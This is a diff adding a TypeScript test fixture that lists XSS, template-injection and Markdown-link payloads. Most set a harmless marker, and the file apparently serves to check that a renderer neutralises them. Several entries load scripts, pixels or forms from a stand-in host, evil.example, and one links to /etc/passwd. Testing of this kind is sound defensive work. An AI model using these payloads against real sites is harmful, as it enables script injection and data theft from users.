@@ -1,0 +1,107 @@
+/** What a payload does when it works; the page is watched for it. */
+const strike = 'top.struck=1';
+
+/** HTML and scripts. Shown letter by letter, wherever they stand. */
+const markup = [
+  `<script>${strike}</script>`,
+  `<ScRiPt>${strike}</sCrIpT>`,
+  `"><script>${strike}</script>`,
+  `'><script>${strike}</script>`,
+  `</textarea><script>${strike}</script>`,
+  `</title><script>${strike}</script>`,
+  `</style><script>${strike}</script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<script src=data:text/javascript,${strike}></script>`,
+  `<script type=module>import('//evil.example/x.js')</script>`,
+  `<img src=x onerror=${strike}>`,
+  `<img src="https://evil.example/pixel.png">`,
+  `<img/src=x/onerror=${strike}//>`,
+  `<image src=x onerror=${strike}>`,
+  `<svg onload=${strike}>`,
+  `<svg><script>${strike}</script></svg>`,
+  `<svg><animate onbegin=${strike} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${strike}"><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${strike}>`,
+  `<math href="javascript:${strike}">x</math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${strike}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${strike}>`,
+  `<template><img src=x onerror=${strike}></template>`,
+  `<iframe srcdoc="<script>${strike}</script>"></iframe>`,
+  `<iframe src="javascript:${strike}"></iframe>`,
+  `<iframe src=https://evil.example></iframe>`,
+  `<object data="javascript:${strike}"></object>`,
+  `<embed src="data:text/html,<script>${strike}</script>">`,
+  `<body onload=${strike}>`,
+  `<details open ontoggle=${strike}>x</details>`,
+  `<video><source onerror=${strike}></video>`,
+  `<audio src=x onerror=${strike}>`,
+  `<input autofocus onfocus=${strike}>`,
+  `<select autofocus onfocus=${strike}></select>`,
+  `<marquee onstart=${strike}>x</marquee>`,
+  `<a href="javascript:${strike}">x</a>`,
+  `<a href="data:text/html,<script>${strike}</script>">x</a>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
+  `<base href="https://evil.example/">`,
+  `<link rel=stylesheet href=https://evil.example/x.css>`,
+  `<style>body{background:url(https://evil.example/x)}</style>`,
+  `<div style="background:url(https://evil.example/x);position:fixed;inset:0">x</div>`,
+  `<form action=https://evil.example><button>x</button></form>`,
+  `<!--><img src=x onerror=${strike}>-->`,
+  `<![CDATA[><img src=x onerror=${strike}>]]>`,
+  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onclick="${strike}"/>`,
+  `<x contenteditable onblur=${strike}>x</x>`,
+  `＜script＞${strike}＜/script＞`,
+] as const;
+
+/** Templates of frameworks and other languages that look into texts. */
+const templates = [
+  `{{constructor.constructor('${strike}')()}}`,
+  `{{$on.constructor('${strike}')()}}`,
+  `\${${strike}}`,
+  `#{${strike}}`,
+  `<%= ${strike} %>`,
+  `{% raw %}${strike}{% endraw %}`,
+  `@if (true) { ${strike} }`,
+  `{ticket, plural, =0 {${strike}} other {x}}`,
+] as const;
+
+/** Links and other forms of Markdown: the words may lose their signs, nothing may lead anywhere but to the web or a mail. */
+const marks = [
+  `[click](javascript:${strike})`,
+  `[click](JaVaScRiPt:${strike})`,
+  `[click]( javascript:${strike} )`,
+  `[click](java\tscript:${strike})`,
+  `[click](&#106;avascript:${strike})`,
+  `[click](&#x6A&#x61&#x76&#x61script:${strike})`,
+  `[click](javascript&colon;${strike})`,
+  `[click](%6Aavascript:${strike})`,
+  `[click](\u0001javascript:${strike})`.replace('\u0001', '\u200b'),
+  `[click](vbscript:msgbox)`,
+  `[click](data:text/html;base64,PHNjcmlwdD50b3Auc3RydWNrPTE8L3NjcmlwdD4=)`,
+  `[click](blob:https://evil.example/x)`,
+  `[click](file:///etc/passwd)`,
+  `[click](//evil.example)`,
+  `[click](https://evil.example "\\" onmouseover=${strike} x=\\"")`,
+  `[click](<javascript:${strike}>)`,
+  `[a](https://ok.example)(javascript:${strike})`,
+  `[![x](javascript:${strike})](javascript:${strike})`,
+  `![x](https://evil.example/pixel.png)`,
+  `![x" onerror="${strike}](x)`,
+  `![x](data:image/svg+xml,<svg onload=${strike}>)`,
+  `<javascript:${strike}>`,
+  `<https://ok.example/" onclick="${strike}>`,
+  `[x]: javascript:${strike} [x]`,
+  `**<img src=x onerror=${strike}>**`,
+  `\`<img src=x onerror=${strike}>\``,
+  `| <img src=x onerror=${strike}> | [y](javascript:${strike}) |`,
+  `> <svg onload=${strike}>`,
+  `&lt;script&gt;${strike}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${strike}&#62;`,
+] as const;
+
+/** Texts that must be seen exactly as they were typed, where there is no Markdown and mostly also where there is. */
+export const literalTexts: readonly string[] = [...markup, ...templates];
+
+/** Everything that is tried. */
+export const hostileTexts: readonly string[] = [...literalTexts, ...marks];
